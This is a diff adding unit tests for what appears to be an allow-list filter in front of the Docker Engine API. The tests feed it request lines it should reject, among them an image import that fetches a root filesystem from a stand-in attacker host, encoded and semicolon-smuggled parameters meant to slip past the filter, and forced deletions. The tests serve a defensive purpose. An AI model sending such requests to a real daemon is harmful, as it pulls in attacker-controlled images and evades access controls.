@@ -49,6 +49,33 @@ test.each([
   'GET ',
 ])('%s does not', (line) => expect(asks(line)).toBe(false));
 
+test.each([
+  'POST /v1.45/images/create?fromSrc=http://evil.example/root.tar&repo=lab/nginx&tag=1',
+  'POST /images/create?fromImage=a&tag=b&fromSrc=-',
+  'POST /images/create?fromImage=a&%66romSrc=-',
+  'POST /images/create?fromImage=a;fromSrc=-',
+  'POST /images/create?fromImage=a&changes=ENTRYPOINT+x',
+  'DELETE /containers/x?v=true&link=true',
+  'DELETE /images/lab/nginx:1?force=true',
+  'POST /containers/x/start?detachKeys=a',
+  'POST /containers/x/exec?x',
+])('%s does not: that call has no such parameter', (line) => expect(asks(line)).toBe(false));
+
+test.each([
+  ['application/x-www-form-urlencoded', false],
+  ['Application/X-WWW-Form-URLencoded; charset=utf-8', false],
+  ['multipart/form-data; boundary=x', false],
+  ['application/json', true],
+  ['application/tar', true],
+  [undefined, true],
+])('a change with a body of type %s passes: %s', (contentType, expected) => {
+  expect(passes({ method: 'POST', url: '/images/create?fromImage=a&tag=b', contentType })).toBe(expected);
+});
+
+test('a call that changes nothing may have any parameter', () => {
+  expect(asks('GET /containers/json?filters=x&limit=3&size=1')).toBe(true);
+});
+
 test('whatever is made up passes only if it is a listed call by its letters', () => {
   const part = fc.oneof(
     fc.constantFrom(
